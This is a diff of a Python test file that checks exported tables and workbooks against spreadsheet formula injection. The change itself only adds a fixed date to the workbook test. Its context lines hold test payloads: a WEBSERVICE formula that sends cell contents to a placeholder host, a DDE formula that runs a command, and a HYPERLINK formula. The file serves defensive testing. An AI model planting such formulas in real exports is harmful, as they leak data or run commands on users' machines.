@@ -6,6 +6,7 @@ import csv
 import io
 import re
 from dataclasses import replace
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -31,6 +32,7 @@ LINK = '=HYPERLINK("http://x","y")'
 WEB = '=WEBSERVICE("http://x?"&A1)'
 DDE = "+cmd|' /C calc'!A0"
 SUM, MINUS, WIDE = "@SUM(A1)", "-2+3", "\uff1d1+1"
+DAY = date(2026, 11, 29)
 NUMBER = re.compile(r"-?[\d.]+(e-?\d+)?")
 
 
@@ -97,9 +99,9 @@ def test_the_tables_of_many_districts_are_text(found: RollUp, tmp_path: Path) ->
 
 def test_the_workbook_of_the_same_tables_holds_no_formula(found: RollUp, tmp_path: Path) -> None:
     explained = replace(found, failures=(PlanFailure("x", "", "=" * (MOST_IN_A_CELL + 1)),))
-    book = load_workbook(write_workbook(explained, tmp_path / "tables.xlsx"))
+    book = load_workbook(write_workbook(explained, tmp_path / "tables.xlsx", DAY))
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
-    assert {cell.data_type for cell in cells} <= {"s", "n"}
+    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
     texts = {cell.value for cell in cells if isinstance(cell.value, str)}
     assert {LINK, "=1+1", WEB} <= texts, "in a workbook no apostrophe is needed"
     (cut,) = [text for text in texts if text.startswith("====")]
